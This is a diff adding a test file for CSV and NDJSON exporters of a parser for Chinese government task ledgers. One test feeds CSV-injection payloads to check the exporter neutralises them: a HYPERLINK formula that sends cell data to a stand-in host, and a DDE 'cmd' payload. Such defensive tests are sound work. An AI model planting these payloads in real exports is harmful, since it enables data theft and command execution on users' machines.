@@ -1,0 +1,79 @@
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import { toCsv, inert } from "../../src/exporters/csv.js";
+import { flatRecords } from "../../src/exporters/flat-record.js";
+import { flattenTasks } from "../../src/exporters/flatten.js";
+import { toNdjson } from "../../src/exporters/ndjson.js";
+import { parseFile, parseText } from "../../src/ledger.js";
+import { noticeFixtures } from "../helpers/fixtures.js";
+
+/** The CSV and NDJSON views: one leaf task per row or line, read back with csv-parse and JSON.parse. */
+
+describe("CSV", () => {
+  it.each(noticeFixtures())("%s: reads back as one row per leaf, the effective owners and deadline, the ancestors by level", async (file) => {
+    const ledger = await parseFile(file);
+    const csv = toCsv(ledger);
+    expect(csv.startsWith("\uFEFF")).toBe(true);
+    const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true, record_delimiter: "\r\n" });
+    const records = flatRecords(ledger);
+    expect(rows).toHaveLength(flattenTasks(ledger).length);
+    rows.forEach((row, i) => {
+      const r = records[i];
+      expect(row.id).toBe(r.id);
+      expect(row.title).toBe(inert(r.title));
+      expect(row.text).toBe(inert(r.text));
+      expect(row.lead).toBe(r.lead.join("、"));
+      expect(row.responsible).toBe(r.responsible.join("、"));
+      expect(row.deadline).toBe(r.deadline ?? "");
+      expect(row.due).toBe(r.due ?? "");
+      expect(row.kind).toBe(r.kind ?? "");
+      expect(row.ownersInherited).toBe(String(r.ownersInherited));
+      expect(row.line).toBe(String(r.source.line));
+      r.ancestors.forEach((a, level) => expect(row[`ancestor${level + 1}`]).toBe(inert(a.title)));
+    });
+  });
+
+  it("keeps Chinese as UTF-8 and names inherited and collective owners", async () => {
+    const ledger = await parseFile("fixtures/chaoyang-2021-ledger.txt");
+    const rows: Record<string, string>[] = parse(toCsv(ledger), { bom: true, columns: true });
+    const row = rows.find((r) => r.id === "1.1.2")!;
+    expect(row.ancestor1).toBe("进一步做好政府信息公开条例的实施");
+    expect(row.ancestor2).toBe("做好法定公开内容的日常维护");
+    expect(row.lead).toBe("区政数局");
+    expect(row.collective).toBe("各相关单位");
+    expect(row.deadline).toBe("长期常态化");
+    expect(row.kind).toBe("ongoing");
+  });
+
+  it("marks inherited owners and deadlines with where they come from", async () => {
+    const ledger = await parseText("一、总体任务（区政府办牵头，2021年12月底前）\n（一）整理目录\n（二）更新专栏\n", { path: "inherit.txt" });
+    const rows: Record<string, string>[] = parse(toCsv(ledger), { bom: true, columns: true });
+    expect(rows.map((r) => [r.id, r.lead, r.ownersInherited, r.ownersFrom, r.due, r.deadlineInherited, r.deadlineFrom])).toEqual([
+      ["1.1", "区政府办", "true", "1", "2021-12-31", "true", "1"],
+      ["1.2", "区政府办", "true", "1", "2021-12-31", "true", "1"],
+    ]);
+  });
+
+  it("never lets a cell become an Excel formula", async () => {
+    const ledger = await parseText('一、=HYPERLINK("http://x.example/?"&A1,"点击")\n二、@SUM(1+1)\n三、-2+3\n四、+cmd|\' /C calc\'!A0\n', { path: "hostile.txt" });
+    const rows: Record<string, string>[] = parse(toCsv(ledger), { bom: true, columns: true });
+    expect(rows).toHaveLength(4);
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
+    expect(rows[0].title).toBe(`'=HYPERLINK("http://x.example/?"&A1,"点击")`);
+  });
+});
+
+describe("NDJSON", () => {
+  it.each(noticeFixtures())("%s: one JSON object per leaf and line, the CSV's fields", async (file) => {
+    const ledger = await parseFile(file);
+    const text = toNdjson(ledger);
+    const lines = text.split("\n");
+    expect(lines.pop()).toBe("");
+    expect(lines.map((line) => JSON.parse(line))).toEqual(JSON.parse(JSON.stringify(flatRecords(ledger))));
+    expect(lines).toHaveLength(flattenTasks(ledger).length);
+    const csvHeader = parse(toCsv(ledger), { bom: true, to_line: 1 })[0] as string[];
+    // Ancestor columns are as many as the tree is deep: none for a flat list.
+    const csvFields = new Set(["ancestors", ...csvHeader.map((h) => (/^ancestor\d+$/.test(h) ? "ancestors" : ["line", "page", "sheet", "table", "row", "col"].includes(h) ? "source" : h))]);
+    for (const line of lines) expect(new Set(Object.keys(JSON.parse(line)))).toEqual(csvFields);
+  });
+});
